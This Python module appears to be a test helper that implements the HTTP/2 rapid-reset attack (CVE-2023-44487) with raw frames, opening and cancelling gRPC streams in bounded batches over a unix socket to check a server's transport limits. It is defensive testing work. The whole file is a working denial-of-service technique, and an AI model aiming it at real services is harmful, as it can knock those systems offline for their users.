"""A hostile HTTP/2 client for the transport limits: one connection on a unix socket that opens
streams and resets them at once (the rapid-reset pattern, CVE-2023-44487), from raw frames.

``reset_storm(path, pairs)`` sends the connection preface, then ``pairs`` times HEADERS for
``method`` (with a complete empty gRPC request, DATA with END_STREAM, unless ``with_data`` is
false) followed by RST_STREAM CANCEL on the same stream, in batches, while a thread reads what
the server sends (acknowledging SETTINGS and PING) and counts its frames by type. Bounded in
count and time: it stops after ``pairs`` streams, when the server closes the connection, or at
``timeout``.
"""
from __future__ import annotations

import socket
import threading
import time
from dataclasses import dataclass, field

from shim.transport.wire.grpc import request_headers
from shim.transport.wire.h2 import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    ERR_CANCEL,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    frame,
)

NAMES = {DATA: "DATA", HEADERS: "HEADERS", RST_STREAM: "RST_STREAM", SETTINGS: "SETTINGS", PING: "PING",
         GOAWAY: "GOAWAY", 8: "WINDOW_UPDATE"}


@dataclass
class StormResult:
    streams: int = 0  # streams opened and reset
    received: dict[str, int] = field(default_factory=dict)  # the server's frames by type
    closed_by_server: bool = False
    seconds: float = 0.0


def reset_storm(path: str, pairs: int, method: str = "/runtime.v1.RuntimeService/Version", *,
                with_data: bool = True, batch: int = 200, timeout: float = 60.0) -> StormResult:
    result = StormResult()
    block = request_headers(method.encode())
    empty_message = b"\x00" * 5
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(timeout)
    sock.connect(path)
    lock = threading.Lock()
    done = threading.Event()

    def send(data: bytes) -> None:
        with lock:
            sock.sendall(data)

    def reader() -> None:
        buf = b""
        try:
            while not done.is_set():
                chunk = sock.recv(1 << 16)
                if not chunk:
                    result.closed_by_server = not done.is_set()
                    return
                buf += chunk
                while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
                    n = int.from_bytes(buf[:3], "big")
                    ftype, flags, payload = buf[3], buf[4], buf[9:9 + n]
                    buf = buf[9 + n:]
                    name = NAMES.get(ftype, str(ftype))
                    result.received[name] = result.received.get(name, 0) + 1
                    if ftype in (SETTINGS, PING) and not flags & ACK:
                        send(frame(ftype, ACK, 0, payload if ftype == PING else b""))
                    elif ftype == GOAWAY:
                        result.closed_by_server = True
        except OSError:
            result.closed_by_server = not done.is_set()

    t0 = time.monotonic()
    thread = threading.Thread(target=reader, name="h2-storm-reader", daemon=True)
    try:
        send(PREFACE + frame(SETTINGS, 0, 0))
        thread.start()
        sid = 1
        while result.streams < pairs and not result.closed_by_server and time.monotonic() - t0 < timeout:
            out = bytearray()
            for _ in range(min(batch, pairs - result.streams)):
                if with_data:
                    out += frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, empty_message)
                else:
                    out += frame(HEADERS, END_HEADERS, sid, block)
                out += frame(RST_STREAM, 0, sid, ERR_CANCEL.to_bytes(4, "big"))
                sid += 2
                result.streams += 1
            try:
                send(bytes(out))
            except OSError:
                result.closed_by_server = True
                break
        # a PING answered means the server has read everything sent before it
        try:
            send(frame(PING, 0, 0, b"stormend"))
        except OSError:
            pass
        deadline = time.monotonic() + min(10.0, timeout)
        while result.received.get("PING", 0) == 0 and not result.closed_by_server and time.monotonic() < deadline:
            time.sleep(0.01)
    finally:
        done.set()
        try:
            sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        sock.close()
        thread.join(5)
        result.seconds = time.monotonic() - t0
    return result
